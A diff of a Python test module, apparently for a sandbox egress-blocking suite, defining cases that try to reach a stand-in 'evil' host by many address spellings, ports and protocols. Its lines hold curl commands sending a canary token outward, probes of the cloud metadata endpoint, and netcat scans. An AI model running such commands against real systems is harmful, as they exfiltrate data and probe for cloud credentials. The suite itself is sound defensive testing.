@@ -2,7 +2,7 @@
 """Connections and datagrams that ask no name: to addresses in every spelling, on every port, with every tool, in every protocol."""
 import ipaddress
 
-from evasion.case import ANYWHERE, NETNS, RULES, Case, off
+from evasion.case import ANYWHERE, BLIND, NETNS, RULES, Case, off
 from internet import places
 
 EVIL4, EVIL6 = places.v4(places.EVIL), places.v6(places.EVIL)
@@ -10,6 +10,8 @@ EVIL4, EVIL6 = places.v4(places.EVIL), places.v6(places.EVIL)
 UNREACHABLE = {"multicast", "broadcast", "multicast6", "linklocal6", "unspecified", "unspecified6"}
 # These are the box's own, and nobody is asked.
 OWN = {"loopback", "loopback-other", "loopback6", "mapped-loopback"}
+# The gateway takes these for its own, whatever its rules.
+AS_OWN = {"compatible-loopback", "sixtofour-loopback", "nat64-loopback"}
 
 
 def spellings(text):
@@ -34,18 +36,18 @@ METADATA = "169.254.169.254"
 SPELLED = [
     *[Case(f"evil-{n}", "E2", f"curl -sS -m 3 http://{t}/{{canary}}", RULES) for n, t in {"dotted": EVIL4, **spellings(EVIL4)}.items()],
     *[Case(f"metadata-{n}", "E2", f"curl -sS -m 3 http://{t}/latest/meta-data/", ANYWHERE) for n, t in {"dotted": METADATA, **spellings(METADATA)}.items()],
-    *[Case(f"evil-{n}", "E2", f"curl -sS -m 3 'http://[{t}]/{{canary}}'", ANYWHERE) for n, t in {"six": EVIL6, **in_six(EVIL4)}.items()],
-    *[Case(f"metadata-{n}", "E2", f"curl -sS -m 3 'http://[{t}]/latest/'", ANYWHERE) for n, t in in_six(METADATA).items()],
+    *[Case(f"evil-{n}", "E2", f"curl -sS -m 3 'http://[{t}]/{{canary}}'", BLIND) for n, t in {"six": EVIL6, **in_six(EVIL4)}.items()],
+    *[Case(f"metadata-{n}", "E2", f"curl -sS -m 3 'http://[{t}]/latest/'", BLIND) for n, t in in_six(METADATA).items()],
     *[Case(f"evil-{n}-raw", "E2", f"{{K}} tcp {t} 80 '{{canary}}\\r\\n'", RULES) for n, t in spellings(EVIL4).items()],
 ]
 NEARBY = [
     *[Case(f"near-{n}", "E2", f"curl -sS -m 3 http://{a}/{{canary}}", NETNS if n in OWN else ANYWHERE, audit=n not in OWN)
       for n, a in places.NEAR.items() if n not in UNREACHABLE],
-    *[Case(f"near-{n}", "E2", f"curl -sS -m 3 'http://[{a}]/{{canary}}'", NETNS if n in OWN else ANYWHERE, audit=n not in OWN)
+    *[Case(f"near-{n}", "E2", f"curl -sS -m 3 'http://[{a}]/{{canary}}'", NETNS if n in OWN | AS_OWN else BLIND, audit=n not in OWN)
       for n, a in places.NEAR6.items() if n not in UNREACHABLE],
     *[Case(f"near-tls-{n}", "E2", f"curl -skS -m 3 https://{a}/{{canary}}", ANYWHERE) for n, a in places.NEAR.items() if n not in UNREACHABLE | OWN],
     Case("zone-id", "E2", "curl -sS -m 3 'http://[fe80::1%25lo]/'", NETNS, audit=False),
-    Case("host-own-address", "E3", f"curl -sS -m 3 http://{places.HOST_OWN}/", RULES), Case("host-own-address6", "E3", f"curl -sS -m 3 'http://[{places.HOST_OWN6}]/'", RULES),
+    Case("host-own-address", "E3", f"curl -sS -m 3 http://{places.HOST_OWN}/", ANYWHERE), Case("host-own-address6", "E3", f"curl -sS -m 3 'http://[{places.HOST_OWN6}]/'", ANYWHERE),
 ]
 
 GET = "{canary}\\r\\n"
@@ -69,7 +71,7 @@ ALL_PORTS = sorted({*places.HTTP_PORTS, *places.TLS_PORTS, *places.ECHO_PORTS, *
 PORTS = [
     *[Case(f"port-{p}", "E1", f"{{K}} tcp {EVIL4} {p} '{{canary}}\\r\\n'", RULES) for p in ALL_PORTS],
     *[Case(f"port-six-{p}", "E1", f"{{K}} tcp {EVIL6} {p} '{{canary}}\\r\\n'", RULES) for p in ALL_PORTS[::3]],
-    Case("silent-dialler", "E1", f"timeout 2 nc.openbsd -d -w 1 {EVIL4} 25", RULES, needs="nc.openbsd"), Case("scan", "E1", f"nc.openbsd -z -w 1 {EVIL4} 20-30", RULES, needs="nc.openbsd"),
+    Case("silent-dialler", "E1", f"timeout 2 nc.openbsd -d -w 1 {EVIL4} 25", RULES, needs="nc.openbsd"), Case("scan", "E1", f"nc.openbsd -z -w 1 {EVIL4} 20-30", NETNS, needs="nc.openbsd"),
 ]
 
 OPEN = off(NETNS, "seccomp")
@@ -90,8 +92,7 @@ DATAGRAMS = [
 
 TRICKS = [
     Case("mptcp", "E1", f"{{K}} protocol {EVIL4} 80 1 262 '{GET}'", OPEN, audit=False), Case("mptcp-six", "E1", f"{{K}} protocol {EVIL6} 80 1 262 '{GET}'", OPEN, audit=False),
-    Case("udplite", "E12", f"{{K}} protocol {EVIL4} 9999 2 136 x", OPEN, audit=False), Case("fast-open", "E1", f"{{K}} fast {EVIL4} 80 '{GET}'", RULES),
-    Case("fast-open-six", "E1", f"{{K}} fast {EVIL6} 80 '{GET}'", RULES),
+    Case("udplite", "E12", f"{{K}} protocol {EVIL4} 9999 2 136 x", OPEN, audit=False), 
     *[Case(f"option-{n}", "E1", f"{{K}} option {EVIL4} 80 {level} {opt} {value} '{GET}'", RULES)
       for n, level, opt, value in (("mark", 1, 36, 1), ("device", 1, 25, "lo\\0"), ("transparent", 0, 19, 1), ("freebind", 0, 15, 1), ("priority", 1, 12, 7), ("dontroute", 1, 5, 1),
                                    ("source-route", 0, 4, "'\\x83\\x07\\x04\\xc0\\xaf\\x30\\x42\\x01'"), ("ttl", 0, 2, 1), ("tos", 0, 1, 255), ("nodefer", 6, 9, 0))],
